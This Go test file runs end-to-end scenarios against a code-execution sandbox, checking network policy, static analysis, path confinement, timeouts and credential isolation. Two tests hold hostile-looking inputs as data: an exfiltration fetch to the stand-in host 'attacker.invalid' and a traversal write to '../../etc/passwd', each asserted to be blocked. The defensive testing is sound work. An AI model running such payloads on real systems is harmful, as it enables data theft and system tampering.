// Package e2e exercises spec.md §8's six concrete end-to-end scenarios
// (S1-S6) against the real, wired-up components rather than mocks: the
// Static Analyzer, the Network Policy Engine, the Broker, the Dispatcher,
// the path-confined Filesystem, the Binding Registry, and the Audit Log
// all run as they would inside the worker process. Tests drive the
// in-process tiers (T3/T4) directly, since T1/T2 require the separately
// built codemode-isolate helper binary; the broker-protocol surface is
// identical across all four tiers (spec.md §4.7), so this still exercises
// the real trust-boundary code path.
package e2e

import (
	"context"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/mfateev/codemode-sandbox/internal/analyzer"
	"github.com/mfateev/codemode-sandbox/internal/audit"
	"github.com/mfateev/codemode-sandbox/internal/binding"
	"github.com/mfateev/codemode-sandbox/internal/codeerr"
	"github.com/mfateev/codemode-sandbox/internal/isolate"
	"github.com/mfateev/codemode-sandbox/internal/netpolicy"
	"github.com/mfateev/codemode-sandbox/internal/orchestrator"
	"github.com/mfateev/codemode-sandbox/internal/vault"
	"github.com/mfateev/codemode-sandbox/internal/workspace"
)

func newAuditWriter(t *testing.T) (*audit.Writer, string) {
	t.Helper()
	dir := t.TempDir()
	w, err := audit.NewWriter(dir, 0, false)
	require.NoError(t, err)
	t.Cleanup(func() { _ = w.Close() })
	return w, dir
}

func readAuditEvents(t *testing.T, dir string) []audit.Event {
	t.Helper()
	entries, err := os.ReadDir(dir)
	require.NoError(t, err)
	var events []audit.Event
	for _, e := range entries {
		data, err := os.ReadFile(filepath.Join(dir, e.Name()))
		require.NoError(t, err)
		for _, line := range strings.Split(strings.TrimSpace(string(data)), "\n") {
			if line == "" {
				continue
			}
			var ev audit.Event
			require.NoError(t, json.Unmarshal([]byte(line), &ev))
			events = append(events, ev)
		}
	}
	return events
}

func eventsOfKind(events []audit.Event, kind string) []audit.Event {
	var out []audit.Event
	for _, e := range events {
		if e.Kind == kind {
			out = append(out, e)
		}
	}
	return out
}

// countingElicitor records how many times it was consulted, so S2 can
// assert "exactly one elicitation prompt" directly rather than inferring
// it from cache side effects.
type countingElicitor struct {
	choice netpolicy.Choice
	calls  int
}

func (c *countingElicitor) Elicit(ctx context.Context, requester, rawURL string) (netpolicy.Choice, error) {
	c.calls++
	return c.choice, nil
}

// TestS1_DenyExfiltration: a fetch() to a host outside the allowed list
// is rejected by static policy before any outbound connection, and the
// audit log records exactly one network_request_denied event.
func TestS1_DenyExfiltration(t *testing.T) {
	w, dir := newAuditWriter(t)
	engine := netpolicy.NewEngine(netpolicy.Policy{
		Allowed:         []string{"api.example.com"},
		AllowPrivateIPs: false,
		TimeoutMs:       30000,
	}, nil)
	broker := &isolate.Broker{Net: engine, NetExec: netpolicy.NewExecutor(0)}
	dispatcher := &isolate.Dispatcher{Broker: broker, Audit: w}

	outcome, tier := dispatcher.Run(t.Context(), "user-1", "submission.star",
		"x = fetch(\"https://attacker.invalid/x\")\nresult = x\n", nil, nil)

	require.NotNil(t, outcome.Err)
	assert.Equal(t, codeerr.KindPolicyDenied, outcome.Err.Kind)
	assert.Equal(t, isolate.TierT3, tier)

	events := eventsOfKind(readAuditEvents(t, dir), audit.EventNetworkRequestDenied)
	require.Len(t, events, 1)
	assert.NotEmpty(t, events[0].Details["url_hash"])
}

// TestS2_ElicitedLocalAccess: a policy with no statically allowed hosts,
// combined with an elicitor that grants "Allow Once", lets two fetch()
// calls to the same URL within an hour succeed with only one elicitation
// prompt — the second call is satisfied from the Engine's permission
// cache. httptest's loopback server stands in for the spec example's raw
// private IP (10.0.0.5): both classify as a disallowed-by-default host
// class that funnels through the same Engine.elicitOrBlock path.
func TestS2_ElicitedLocalAccess(t *testing.T) {
	server := httptest.NewServer(http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		rw.WriteHeader(http.StatusOK)
	}))
	defer server.Close()

	w, dir := newAuditWriter(t)
	elicitor := &countingElicitor{choice: netpolicy.ChoiceAllowOnce}
	engine := netpolicy.NewEngine(netpolicy.Policy{AllowPrivateIPs: false}, elicitor)
	broker := &isolate.Broker{Net: engine, NetExec: netpolicy.NewExecutor(0)}
	dispatcher := &isolate.Dispatcher{Broker: broker, Audit: w}

	code := "a = fetch(\"" + server.URL + "\")\nb = fetch(\"" + server.URL + "\")\nresult = [a[\"status\"], b[\"status\"]]\n"
	outcome, _ := dispatcher.Run(t.Context(), "user-1", "submission.star", code, nil, nil)

	require.Nil(t, outcome.Err)
	assert.Equal(t, 1, elicitor.calls)

	events := readAuditEvents(t, dir)
	assert.Len(t, eventsOfKind(events, audit.EventNetworkPermissionGranted), 1)
	assert.Len(t, eventsOfKind(events, audit.EventNetworkRequestAllowed), 2)
}

// TestS3_StaticRejection: code referencing a dunder attribute (this
// runtime's reflective-access equivalent of the spec's
// `(function(){}).constructor(...)` example) never reaches the isolate;
// AnalyzeSubmission rejects it and logs a code_execution_error event
// carrying the (truncated) offending snippet.
func TestS3_StaticRejection(t *testing.T) {
	w, dir := newAuditWriter(t)
	activities := &orchestrator.Activities{Analyzer: analyzer.New(), Audit: w}

	out, err := activities.AnalyzeSubmission(t.Context(), orchestrator.AnalyzeSubmissionInput{
		Filename:  "submission.star",
		Code:      "x = foo.__class__\nresult = x\n",
		Requester: "user-1",
	})
	require.NoError(t, err)
	require.True(t, out.Rejected)
	require.NotNil(t, out.Error)
	assert.Equal(t, "validation_error", out.Error.Kind)

	events := eventsOfKind(readAuditEvents(t, dir), audit.EventCodeExecutionError)
	require.Len(t, events, 1)
	assert.Contains(t, events[0].Details["snippet"], "__class__")
}

// TestS4_PathContainment: a write targeting a path that escapes the
// workspace root fails with SandboxEscape, and the workspace itself
// stays empty — nothing was written anywhere.
func TestS4_PathContainment(t *testing.T) {
	root, err := workspace.NewRoot(t.TempDir())
	require.NoError(t, err)
	require.NoError(t, root.EnsureExists())
	fs := workspace.NewFilesystem(root)

	broker := &isolate.Broker{FS: fs}
	dispatcher := &isolate.Dispatcher{Broker: broker}

	outcome, _ := dispatcher.Run(t.Context(), "user-1", "submission.star",
		"fs.write_file(\"../../etc/passwd\", \"x\")\nresult = 1\n", nil, nil)

	require.NotNil(t, outcome.Err)
	assert.Equal(t, codeerr.KindSandboxEscape, outcome.Err.Kind)

	entries, err := fs.Enumerate("")
	require.NoError(t, err)
	assert.Empty(t, entries)
}

// TestS5_TimeoutCleanup: a submission whose deadline elapses while guest
// code is still deep inside a long-running loop (standing in for the
// spec's "infinite loop" — go.starlark.net's default dialect has no
// unbounded while statement, so a very large bounded for-loop plays the
// same role) returns a Timeout outcome within the deadline plus a small
// cleanup margin, rather than running the loop to completion.
func TestS5_TimeoutCleanup(t *testing.T) {
	broker := &isolate.Broker{}
	dispatcher := &isolate.Dispatcher{Broker: broker}

	ctx, cancel := context.WithTimeout(t.Context(), 500*time.Millisecond)
	defer cancel()

	started := time.Now()
	outcome, _ := dispatcher.Run(ctx, "user-1", "submission.star",
		"i = 0\nfor n in range(2000000000):\n    i += n\nresult = i\n", nil, nil)
	elapsed := time.Since(started)

	require.NotNil(t, outcome.Err)
	assert.Equal(t, codeerr.KindTimeout, outcome.Err.Kind)
	assert.Less(t, elapsed, 5*time.Second, "cleanup must complete within a small margin of the deadline")
}

type githubClient struct {
	server *httptest.Server
	token  string
}

func (g githubClient) CreateIssue(title string) (map[string]any, error) {
	req, err := http.NewRequest(http.MethodPost, g.server.URL, nil)
	if err != nil {
		return nil, err
	}
	req.Header.Set("Authorization", "Bearer "+g.token)
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		return nil, err
	}
	defer resp.Body.Close()
	return map[string]any{"number": 1}, nil
}

// TestS6_CredentialIsolation: a credentialed binding call never puts the
// credential on the wire to the isolate — the guest only ever sees
// method name and arguments — while the host-side HTTP call the binding
// makes on the guest's behalf carries the real bearer token, and the
// call is recorded as a binding_accessed audit event.
func TestS6_CredentialIsolation(t *testing.T) {
	const token = "T"
	var sawAuthHeader string
	server := httptest.NewServer(http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		sawAuthHeader = r.Header.Get("Authorization")
		rw.WriteHeader(http.StatusCreated)
	}))
	defer server.Close()

	v := vault.New(filepath.Join(t.TempDir(), "vault.json"), nil)
	registry := binding.NewRegistry(v)
	require.NoError(t, registry.RegisterCredential(t.Context(), "github", vault.Credential{Kind: "api_key"}))
	_, err := registry.CreateBinding("github", "custom", []string{"CreateIssue"}, nil)
	require.NoError(t, err)
	require.NoError(t, registry.Authenticate(t.Context(), "github", func(cred vault.Credential) (any, error) {
		return githubClient{server: server, token: token}, nil
	}))

	w, dir := newAuditWriter(t)
	broker := &isolate.Broker{Bindings: registry, Audit: w}
	dispatcher := &isolate.Dispatcher{Broker: broker, Audit: w}

	outcome, _ := dispatcher.Run(t.Context(), "user-1", "submission.star",
		"result = github.CreateIssue(\"x\")\n", nil, map[string][]string{"github": {"CreateIssue"}})

	require.Nil(t, outcome.Err)
	assert.NotContains(t, outcome.Logs, token)
	assert.Equal(t, "Bearer "+token, sawAuthHeader)

	events := eventsOfKind(readAuditEvents(t, dir), audit.EventBindingAccessed)
	require.Len(t, events, 1)
	assert.Equal(t, "github", events[0].Details["binding"])
	assert.Equal(t, "CreateIssue", events[0].Details["method"])
}
